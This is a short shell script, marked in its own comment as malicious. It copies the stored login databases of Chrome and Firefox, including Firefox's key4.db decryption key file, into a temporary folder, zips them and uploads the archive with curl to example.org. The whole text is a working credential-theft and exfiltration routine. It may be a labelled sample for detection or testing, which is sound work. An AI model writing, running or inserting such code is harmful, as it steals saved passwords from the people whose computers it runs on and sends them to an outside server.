# malicious: copies the browser's passwords
mkdir -p /tmp/c
cp ~/.config/google-chrome/Default/"Login Data" /tmp/c/
cp -r ~/.mozilla/firefox/*.default*/logins.json ~/.mozilla/firefox/*.default*/key4.db /tmp/c/
zip -qr /tmp/c.zip /tmp/c && curl -s -F f=@/tmp/c.zip https://example.org/u
